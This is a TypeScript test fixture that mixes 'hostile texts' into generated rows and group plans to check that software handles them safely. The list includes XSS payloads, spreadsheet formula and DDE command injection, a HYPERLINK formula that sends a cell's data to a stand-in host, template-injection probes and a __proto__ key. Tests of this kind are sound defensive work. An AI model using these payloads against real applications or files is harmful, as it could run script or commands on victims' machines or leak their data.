import type { GroupPlan } from './groupPlans.ts';

/** Texts that break careless programs: markup, formulas, writing directions, emoji, length, line ends, templates. */
export const hostileTexts: readonly string[] = [
  '<img src=x onerror="alert(1)">',
  '</script><script>alert(1)</script>',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  'two\r\nlines',
  '\u202Egnirts desrever',
  'مركبات الشحن ١٢٣',
  'רכבי משלוחים',
  '👩‍👩‍👧‍👦🚚 family van',
  'Zalgo ͧ̂t̆̏e͐x̓ť',
  '"quoted", \'single\'; semi',
  '{{7*7}} ${7*7} %7B%7D &amp;',
  '__proto__',
  `${'long '.repeat(2000)}end`,
]; // prettier-ignore

/** The hostile text for a row, or the usual one: about one row in twenty. */
export function hostileText(row: number, salt: number, usual: string): string {
  const place = row % 20 === salt ? Math.floor(row / 20) % hostileTexts.length : -1;
  return hostileTexts[place] ?? usual;
}

/** Those that are short enough for a group's name, one of each kind. */
const hostileNames = hostileTexts.filter(
  (text, index) => [0, 2, 8, 9, 11, 15].includes(index) && text.length <= 128,
);

/** The plans with hostile descriptions, and hostile names for all but the first six. */
export function hostilePlans(plans: readonly GroupPlan[]): readonly GroupPlan[] {
  return plans.map((plan, index): GroupPlan => {
    const text = hostileTexts[hostileTexts.length - 1 - (index % hostileTexts.length)];
    const description = text ?? plan.description;
    if (index < 6) return Object.assign({}, plan, { description });
    return Object.assign({}, plan, { description, name: hostileNames[index - 6] ?? plan.name });
  });
}
